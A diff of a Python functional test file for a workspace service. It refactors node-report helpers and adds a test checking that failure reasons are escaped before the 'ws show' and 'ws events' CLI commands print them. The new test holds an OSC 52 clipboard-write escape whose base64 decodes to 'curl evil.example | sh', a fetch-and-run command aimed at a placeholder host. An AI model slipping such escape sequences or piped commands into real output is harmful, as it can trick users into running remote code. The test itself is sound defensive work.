@@ -17,6 +17,8 @@ import pytest
 
 from tests.functional.harness import WS, SitePki, TlsSite
 from workspace import rpc
+from workspace.cli import ws as ws_cli
+from workspace.client import Client
 from workspace.node.v1 import nodes_pb2, nodes_pb2_grpc
 from workspace.v1 import admin_pb2, common_pb2, workspaces_pb2
 
@@ -91,11 +93,9 @@ def test_a_node_claiming_an_impossible_size_is_refused(
     assert world.site.stubs.get(world.w1.id).state == WS.WORKSPACE_STATE_RUNNING
 
 
-def test_a_long_failure_said_again_is_no_change(world: World) -> None:
-    """A reason longer than a workspace keeps (1,024 characters: a hypervisor's error
-    with its whole command line, or a node that pads it) was never equal to the one
-    stored, cut: every report of the same failure was a change, sent to every watcher
-    of the workspace (and logged whole) at each heartbeat of the node."""
+def on_a_node_of_its_own(world: World, name: str) -> tuple[nodes_pb2_grpc.NodesStub, str]:
+    """Stubs of node n3, which has no agent (nothing reports for it but the test), and the
+    id of a new workspace ``name`` placed on it."""
     site, pki = world.site, world.site.pki
     channel = rpc.channel(site.node_address, pki.tls(pki.node("n3")))
     site.channels.append(channel)
@@ -106,26 +106,37 @@ def test_a_long_failure_said_again_is_no_change(world: World) -> None:
         )
     )
     others = ("n1", "n2")
-    for name in others:
-        site.stubs.admin.DrainNode(admin_pb2.NodeRef(name=name))
+    for other in others:
+        site.stubs.admin.DrainNode(admin_pb2.NodeRef(name=other))
     try:
-        w3 = site.stubs.create(name="w3")
+        made = site.stubs.create(name=name)
     finally:
-        for name in others:
-            site.stubs.admin.EnableNode(admin_pb2.NodeRef(name=name))
-    assert w3.node == "n3"
-    watch = site.stubs.ws.WatchWorkspaces(workspaces_pb2.WatchWorkspacesRequest(id=w3.id))
+        for other in others:
+            site.stubs.admin.EnableNode(admin_pb2.NodeRef(name=other))
+    assert made.node == "n3"
+    return n3, made.id
+
+
+def said_by_n3(n3: nodes_pb2_grpc.NodesStub, workspace_id: str, state: int, reason: str) -> None:
+    """A full report of n3: ``workspace_id`` is in ``state`` for ``reason``."""
+    w = nodes_pb2.ObservedWorkspace(workspace_id=workspace_id, state=state, reason=reason)
+    n3.ReportStatus(nodes_pb2.ReportStatusRequest(node="n3", full=True, workspaces=[w]))
+
+
+def test_a_long_failure_said_again_is_no_change(world: World) -> None:
+    """A reason longer than a workspace keeps (1,024 characters: a hypervisor's error
+    with its whole command line, or a node that pads it) was never equal to the one
+    stored, cut: every report of the same failure was a change, sent to every watcher
+    of the workspace (and logged whole) at each heartbeat of the node."""
+    site = world.site
+    n3, w3 = on_a_node_of_its_own(world, "w3")
+    watch = site.stubs.ws.WatchWorkspaces(workspaces_pb2.WatchWorkspacesRequest(id=w3))
     seen = iter(watch)
-    assert next(seen).workspace.id == w3.id  # the snapshot
-
-    def report(state: int, reason: str = "") -> None:
-        w = nodes_pb2.ObservedWorkspace(workspace_id=w3.id, state=state, reason=reason)
-        n3.ReportStatus(nodes_pb2.ReportStatusRequest(node="n3", full=True, workspaces=[w]))
-
+    assert next(seen).workspace.id == w3  # the snapshot
     said = "qemu-system-x86_64: " + "-device virtio-blk-pci " * 100
     for _ in range(3):  # three heartbeats of the same failure
-        report(nodes_pb2.OBSERVED_STATE_FAILED, said)
-    report(nodes_pb2.OBSERVED_STATE_RUNNING)
+        said_by_n3(n3, w3, nodes_pb2.OBSERVED_STATE_FAILED, said)
+    said_by_n3(n3, w3, nodes_pb2.OBSERVED_STATE_RUNNING, "")
     states = []
     try:
         for event in seen:
@@ -135,7 +146,7 @@ def test_a_long_failure_said_again_is_no_change(world: World) -> None:
     finally:
         watch.cancel()
     assert states == ["WORKSPACE_STATE_FAILED", "WORKSPACE_STATE_RUNNING"]
-    site.stubs.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w3.id))
+    site.stubs.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w3))
 
 
 def test_a_refusal_echoing_a_huge_name_is_logged_cut(
@@ -211,3 +222,26 @@ def test_a_node_declaring_more_than_a_config_would_is_refused(
         dict(before.labels),
         list(before.networks),
     )
+
+
+def test_a_reason_cannot_drive_its_readers_terminal(
+    world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A node writes its workspaces' reasons; `ws show` and `ws events` printed them as
+    they came, so a compromised node could send the owner's terminal an OSC 52
+    (write the clipboard), a hyperlink or a window title. Control characters are now
+    written out, not sent."""
+    site = world.site
+    n3, w4 = on_a_node_of_its_own(world, "w4")
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+    said_by_n3(n3, w4, nodes_pb2.OBSERVED_STATE_FAILED, f"disk error{osc52}")
+    tls = site.client_tls()
+    for argv in (["show", "w4"], ["events", "w4"]):
+        capsys.readouterr()
+        code = ws_cli.main(argv, connect=lambda _s: Client(site.address, tls=tls))
+        out = capsys.readouterr().out
+        assert code == 0, argv
+        assert "disk error" in out, argv
+        assert "\x1b" not in out and "\x07" not in out, argv
+        assert "disk error\\x1b]52;c;" in out, argv  # written out, for whoever looks
+    site.stubs.ws.DestroyWorkspace(workspaces_pb2.WorkspaceRef(id=w4))
